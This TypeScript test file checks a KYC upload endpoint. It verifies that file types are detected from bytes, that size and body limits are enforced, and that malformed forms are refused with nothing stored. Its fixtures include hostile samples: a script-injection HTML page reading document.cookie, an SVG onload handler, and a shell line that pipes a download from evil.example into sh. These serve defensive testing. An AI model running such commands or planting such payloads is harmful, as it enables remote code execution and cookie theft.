// Invariant: a KYC document's type is decided by its bytes alone (JPEG, PNG or PDF), never by its
// file name or declared content type; a file over KYC_MAX_FILE_BYTES, a body over the upload limit
// (refused with 413 before it is parsed), a non-multipart body or a malformed form is refused, and
// a refused submission writes nothing to D1 or R2.
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { kycUploadLimit } from "../../src/routes/kyc";
import { loadConfig } from "../../src/config";
import {
  authed,
  customerUser,
  expectNothingStored,
  expectProblem,
  JPEG,
  kycConfig,
  kycForm,
  PDF,
  PNG,
  submitKyc,
  type Json,
  type Part,
} from "../helpers";

const text = (s: string) => new TextEncoder().encode(s);

const HOSTILE: Record<string, Uint8Array> = {
  html: text("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
  svg: text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  shell: text("#!/bin/sh\ncurl https://evil.example | sh\n"),
  exe: new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, ...new Array(64).fill(0)]),
  zip: new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00, ...new Array(40).fill(0)]),
  gif: text("GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
  // a PNG signature without its IHDR chunk is not a PNG
  truncated_png: PNG.slice(0, 8),
};

async function refused(res: Response, status: number, code: string, path?: string): Promise<Json> {
  const body = await expectProblem(res, status, code);
  if (path) expect(body.errors.map((e: Json) => e.path)).toContain(path);
  return body;
}

function withPngHeader(size: number): Uint8Array {
  const bytes = new Uint8Array(size);
  bytes.set(PNG);
  return bytes;
}

describe("KYC files are judged by their bytes", () => {
  it("stores a PNG named .pdf and declared application/pdf as image/png", async () => {
    const user = await customerUser();
    const res = await submitKyc(
      user.token,
      kycForm("national_id", {
        front: { bytes: PNG, name: "scan.pdf", type: "application/pdf" },
        back: { bytes: JPEG, name: "back.png", type: "image/png" },
        selfie: { bytes: PDF, name: "selfie.jpg", type: "image/jpeg" },
      }),
    );
    expect(res.status).toBe(201);
    const { application } = await res.json<Json>();
    const types = Object.fromEntries(application.documents.map((d: Json) => [d.kind, d.content_type]));
    expect(types).toEqual({ front: "image/png", back: "image/jpeg", selfie: "application/pdf" });
    for (const d of application.documents) {
      const object = await env.KYC_BUCKET.head(`kyc/${user.id}/${application.id}/${d.id}`);
      expect(object!.httpMetadata?.contentType).toBe(types[d.kind]);
      // the user's file name is never part of the key
      expect(object!.key).not.toMatch(/scan|back|selfie|\.pdf|\.png|\.jpg/);
    }
  });

  for (const [label, bytes] of Object.entries(HOSTILE)) {
    it(`refuses ${label} bytes declared as image/jpeg`, async () => {
      const user = await customerUser();
      const res = await submitKyc(user.token, kycForm("passport", { front: { bytes, name: "photo.jpg", type: "image/jpeg" } }));
      await refused(res, 400, "invalid_document", "front");
      await expectNothingStored(user.id);
    });
  }

  it("refuses the whole submission when one of its files is bad, naming that field", async () => {
    const user = await customerUser();
    const res = await submitKyc(
      user.token,
      kycForm("passport", {
        front: { bytes: PNG, type: "image/png" },
        back: { bytes: HOSTILE.exe!, name: "back.png", type: "image/png" },
      }),
    );
    const body = await refused(res, 400, "invalid_document", "back");
    expect(body.errors.map((e: Json) => e.path)).toEqual(["back"]);
    await expectNothingStored(user.id);
  });

  it("refuses an empty file", async () => {
    const user = await customerUser();
    await refused(await submitKyc(user.token, kycForm("passport", { front: { bytes: new Uint8Array(0) } })), 400, "invalid_document", "front");
    await expectNothingStored(user.id);
  });
});

describe("KYC size limits", () => {
  it("accepts a file of exactly KYC_MAX_FILE_BYTES and refuses one byte more with 400", async () => {
    const max = kycConfig().maxFileBytes;
    const over = await customerUser();
    const res = await submitKyc(over.token, kycForm("passport", { front: { bytes: withPngHeader(max + 1), type: "image/png" } }));
    await refused(res, 400, "invalid_document", "front");
    await expectNothingStored(over.id);

    const atLimit = await customerUser();
    const ok = await submitKyc(atLimit.token, kycForm("passport", { front: { bytes: withPngHeader(max), type: "image/png" } }));
    expect(ok.status).toBe(201);
    expect((await ok.json<Json>()).application.documents[0].size).toBe(max);
  });

  it("refuses a body over the upload limit with 413 before parsing it (declared length)", async () => {
    const user = await customerUser();
    const limit = kycUploadLimit(loadConfig(env));
    expect(limit).toBe(3 * kycConfig().maxFileBytes + 64 * 1024);
    // Not even multipart: had it been parsed, the answer would be a 400.
    const res = await authed(user.token, "/kyc/submit", {
      method: "POST",
      headers: { "Content-Type": "multipart/form-data; boundary=xyz" },
      body: new Uint8Array(limit + 1),
    });
    await expectProblem(res, 413, "payload_too_large");
    await expectNothingStored(user.id);
  });

  it("refuses a streamed body (no Content-Length) as soon as it passes the limit", async () => {
    const user = await customerUser();
    const limit = kycUploadLimit(loadConfig(env));
    const chunk = new Uint8Array(1024 * 1024);
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent > limit) return controller.close();
        sent += chunk.byteLength;
        controller.enqueue(chunk);
      },
    });
    const res = await authed(user.token, "/kyc/submit", {
      method: "POST",
      headers: { "Content-Type": "multipart/form-data; boundary=xyz" },
      body: stream,
    });
    await expectProblem(res, 413, "payload_too_large");
    await expectNothingStored(user.id);
  });

  it("asks for a bearer token before reading an oversized body", async () => {
    const limit = kycUploadLimit(loadConfig(env));
    const res = await authed("not-a-token", "/kyc/submit", {
      method: "POST",
      headers: { "Content-Type": "multipart/form-data; boundary=xyz" },
      body: new Uint8Array(limit + 1),
    });
    await expectProblem(res, 401, "invalid_access_token");
  });
});

describe("KYC form shape", () => {
  const good: Record<string, Part> = { front: { bytes: PNG, type: "image/png" } };

  it("refuses a body that is not multipart/form-data", async () => {
    const user = await customerUser();
    const json = await authed(user.token, "/kyc/submit", {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ document_type: "passport" }),
    });
    await expectProblem(json, 400, "unsupported_content_type");
    const urlencoded = await authed(user.token, "/kyc/submit", {
      method: "POST",
      body: new URLSearchParams({ document_type: "passport", front: "x" }),
    });
    await expectProblem(urlencoded, 400, "unsupported_content_type");
    const malformed = await authed(user.token, "/kyc/submit", {
      method: "POST",
      headers: { "Content-Type": "multipart/form-data; boundary=xyz" },
      body: "this is not a multipart body",
    });
    await expectProblem(malformed, 400, "validation_error");
    await expectNothingStored(user.id);
  });

  it("requires front", async () => {
    const user = await customerUser();
    const res = await submitKyc(user.token, kycForm("passport", { back: { bytes: PNG, type: "image/png" } }));
    await refused(res, 400, "validation_error", "front");
    await expectNothingStored(user.id);
  });

  it("requires a known document_type", async () => {
    const user = await customerUser();
    await refused(await submitKyc(user.token, kycForm("library_card", good)), 400, "validation_error", "document_type");
    await refused(await submitKyc(user.token, kycForm(null, good)), 400, "validation_error", "document_type");
    await expectNothingStored(user.id);
  });

  it("refuses a file field sent as text, a field given twice, and unknown fields", async () => {
    const user = await customerUser();
    const asText = new FormData();
    asText.append("document_type", "passport");
    asText.append("front", "iVBORw0KGgo=");
    await refused(await submitKyc(user.token, asText), 400, "validation_error", "front");

    const twice = kycForm("passport", good);
    twice.append("front", new Blob([JPEG], { type: "image/jpeg" }), "second.jpg");
    await refused(await submitKyc(user.token, twice), 400, "validation_error", "front");

    const extra = kycForm("passport", good);
    extra.append("user_id", crypto.randomUUID());
    await expectProblem(await submitKyc(user.token, extra), 400, "validation_error");
    await expectNothingStored(user.id);
  });
});
